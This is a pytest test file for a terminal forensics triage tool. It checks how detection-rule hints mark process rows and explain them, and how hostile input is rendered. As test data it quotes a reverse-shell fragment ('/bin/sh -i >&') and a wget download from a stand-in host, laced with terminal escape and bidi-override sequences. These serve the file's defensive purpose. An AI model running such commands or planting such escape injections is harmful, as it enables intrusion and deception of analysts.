"""Hints on the screen: after the rows, in words, first when asked, and never a verdict."""

from __future__ import annotations

import threading
from pathlib import Path

import pytest
from iotriage.queries.hints.hint import HINTED_PANES

from .driving import CAM, NARROW, WIDE, assert_plain, driven
from .evidence import event, evidence
from .sources import Remembering, Told

SIZES = pytest.mark.parametrize("size", [WIDE, NARROW], ids=["wide", "narrow"])


@SIZES
async def test_rows_with_hints_are_marked_and_come_first_when_asked(
    demo: Remembering, case: Path, size: tuple[int, int]
) -> None:
    async with driven(demo, case, size) as console:
        await console.open(CAM)
        await console.press("5")
        rows = console.app.rows_of("processes")
        as_asked = console.keys_of("processes")
        marked = [rows[at].sign == "?" for at in range(len(rows))]
        assert sum(marked) == 18
        assert not all(marked[:18])
        assert "18 with hints" in console.text
        assert console.counts() == (0, 0, 0, console.counts()[3]), "a hint is no verdict"
        await console.press("O")
        rows = console.app.rows_of("processes")
        assert [rows[at].sign == "?" for at in range(len(rows))] == [True] * 18 + [False] * 16
        assert "18 with hints, first" in console.text.replace(" ,", ",")
        # A verdict given there is for the row that stands there.
        first = console.keys_of("processes")[0]
        await console.press("home", "s")
        assert rows.record(0)["Executable"] == first
        assert [rows[0].sign, console.counts()[0]] == ["!", 1]
        await console.press("O")
        assert console.keys_of("processes") == as_asked


@SIZES
async def test_the_detail_says_why(demo: Remembering, case: Path, size: tuple[int, int]) -> None:
    async with driven(demo, case, size) as console:
        await console.open(CAM)
        await console.press("5", "O")
        at = console.keys_of("processes").index("/bin/bash")
        await console.press("home", *["down"] * at, "enter")
        await console.until(lambda: "Why this deserves a look" in console.text)
        text = " ".join(console.text.split())
        assert "Shell joined to a network connection" in text
        assert "T1059.004 · Sigma rule shell_over_network.yml" in text
        assert "once at 2026-11-21 06:38:01 UTC, such as bash -c /bin/sh -i >&" in text
        assert_plain(console)


async def test_rows_never_wait_for_hints(demo: Remembering, case: Path) -> None:
    gate = threading.Event()
    source = Told(demo, held={"processes_hints": gate})
    async with driven(source, case, WIDE) as console:
        await console.settled()
        await console.type(CAM)
        await console.press("enter")
        await console.until(lambda: all(map(console.app.rows, HINTED_PANES)))
        await console.press("5", "O", "end", "up")
        rows = console.app.rows_of("processes")
        under = rows.record(console.pane("processes").table.cursor_row)["Executable"]
        assert "with hints" not in console.text
        gate.set()
        await console.settled()
        rows = console.app.rows_of("processes")
        assert rows[0].sign == "?"
        # Whoever is about to judge a row judges that one, wherever it stands by now.
        assert rows.record(console.pane("processes").table.cursor_row)["Executable"] == under


async def test_hints_that_fail_say_so_and_harm_nothing(demo: Remembering, case: Path) -> None:
    source = Told(demo, failing={"processes_hints": "HTTP 503: the service is busy"})
    async with driven(source, case, WIDE) as console:
        await console.open(CAM)
        await console.press("5")
        assert "rules failed: HTTP 503" in console.text
        assert len(console.app.rows_of("processes").answer.rows) == 34
        await console.press("i")
        assert "the rules could not be asked: HTTP 503: the service is busy" in console.text
        await console.press("escape", "3")
        assert "with hints" in console.text


async def test_asked_again_the_hints_are_those_of_the_new_rows(
    demo: Remembering, case: Path
) -> None:
    source = Told(demo)
    async with driven(source, case, WIDE) as console:
        await console.open(CAM)
        await console.press("4", "r")
        await console.settled()
        asked = [name for name, _ in source.asked]
        assert (asked.count("logins_hints"), asked.count("processes_hints")) == (2, 1)
        assert asked.index("logins_hints") > asked.index("logins")
        assert "7 with hints" in console.text


async def test_alerts_have_none_and_the_picker_takes_the_letter(
    demo: Remembering, case: Path
) -> None:
    async with driven(demo, case, WIDE) as console:
        await console.settled()
        await console.press("O")
        assert console.app.main.picker.filter_input.value == "O"
        await console.press("escape")
        await console.open(CAM)
        await console.press("1", "O")
        assert console.toasts == ["there are no hints for the rows of this pane"]


async def test_rules_that_are_not_used_are_told(
    demo: Remembering, case: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "bad\x1b[2J.yml").write_text("title: '[red]\x07'")
    (folder / "parent.yml").write_text(
        "title: '[bold]Parent'\nlogsource: {category: process_creation}\n"
        "detection: {a: {ParentImage: /bin/sh}, condition: a}\n"
    )
    (folder / "good.yml").write_text(
        "title: '[link=http://a.example]Ours[/link]'\nlogsource: {category: process_creation}\n"
        "detection: {a: {Image|endswith: /ffmpeg}, condition: a}\nlevel: critical\n"
    )
    async with driven(demo, case, WIDE, rules=str(folder)) as console:
        said = "2 of your rules are not used: i in a pane tells why"
        await console.until(lambda: said in console.toasts)
        await console.open(CAM)
        await console.press("5", "slash", *"ffmpeg", "enter", "enter")
        await console.until(lambda: "Why this deserves" in console.text)
        assert "[link=http://a.example]Ours[/link]" in console.text
        assert_plain(console)
        await console.press("escape", "i")
        assert "[bold]Parent: field ParentImage" in console.text
        assert_plain(console)


async def test_hostile_examples_are_plain(case: Path) -> None:
    line = "wget -O /tmp/\x1b[2J\u202e[red]x[/red] http://a.example"
    rows = [event("ProcessCreate", 2, {"Executable": "/bin/\x1b[31mwget", "CommandLine": line})]
    source = evidence(*rows)
    try:
        async with driven(source, case, WIDE) as console:
            await console.open("cam-1")
            await console.press("5", "enter")
            await console.until(lambda: "Why this deserves" in console.text)
            assert "/tmp/\\e[2J\\u202e[red]x[/red]" in console.text
            assert_plain(console)
    finally:
        source.close()
